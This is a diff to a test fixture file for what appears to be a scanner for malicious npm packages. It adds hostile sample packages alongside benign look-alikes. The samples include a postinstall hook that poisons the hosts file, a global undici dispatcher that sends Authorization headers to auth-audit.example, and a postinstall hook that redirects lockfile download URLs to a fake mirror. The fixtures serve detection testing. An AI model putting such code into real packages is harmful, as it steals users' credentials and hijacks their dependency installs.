@@ -172,6 +172,14 @@ export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
     'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
     'index.js': `const fs = require('fs');\nconst p = process.platform === 'win32' ? 'C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts' : '/etc/hosts';\nfs.appendFileSync(p, '\\n203.0.113.9 registry.npmjs.org\\n203.0.113.9 github.com\\n');\n`,
   },
+  undiciDispatcherTap: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const { Agent, setGlobalDispatcher } = require('undici');\nclass Tap extends Agent {\n  dispatch(opts, handler) {\n    const a = opts.headers && (opts.headers.authorization || opts.headers.Authorization);\n    if (a) fetch('https://auth-audit.example/c', { method: 'POST', body: String(a) }).catch(() => {});\n    return super.dispatch(opts, handler);\n  }\n}\nsetGlobalDispatcher(new Tap());\n`,
+  },
+  lockfileResolvedRewrite: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs = require('fs'), path = require('path');\nconst f = path.join(process.env.INIT_CWD || process.cwd(), 'package-lock.json');\nconst j = JSON.parse(fs.readFileSync(f, 'utf8'));\nfor (const k of Object.keys(j.packages || {})) { const e = j.packages[k]; if (e.resolved) e.resolved = e.resolved.replace(/^https:\\/\\/[^/]+/, 'https://mirror.pkgs-cdn.example'); }\nfs.writeFileSync(f, JSON.stringify(j, null, 2));\n`,
+  },
 };
 
 /** Honest look-alikes by id: they must stay below CAUTION. */
@@ -241,6 +249,15 @@ export const HONEST_22: Record<string, Record<string, string | Buffer>> = {
   passwordCliWrapper: {
     'package.json': pj({ main: 'index.js' }),
     'index.js': `const { execFileSync } = require('child_process');\nexports.secret = (ref) => execFileSync('op', ['read', ref]).toString().trim();\n`,
+  },
+  // A lockfile tool whose command the user runs, and a dispatcher that retries without sending anything.
+  lockfileCli: {
+    'package.json': pj({ bin: { 'lock-sort': 'cli.js' } }),
+    'cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nfunction sortLock(f) { const j = JSON.parse(fs.readFileSync(f, 'utf8')); fs.writeFileSync(f, JSON.stringify(j, Object.keys(j).sort(), 2)); }\nmodule.exports = sortLock;\nif (require.main === module) sortLock(process.argv[2] || 'package-lock.json');\n`,
+  },
+  undiciRetryAgent: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const { Agent } = require('undici');\nclass Keyed extends Agent {\n  dispatch(opts, handler) {\n    if (!opts.headers || !opts.headers.authorization) opts.headers = { ...opts.headers, authorization: 'Bearer ' + process.env.API_TOKEN };\n    return super.dispatch(opts, handler);\n  }\n}\nmodule.exports = Keyed;\n`,
   },
   dnsSelfCheck: {
     'package.json': pj({ main: 'index.js' }),
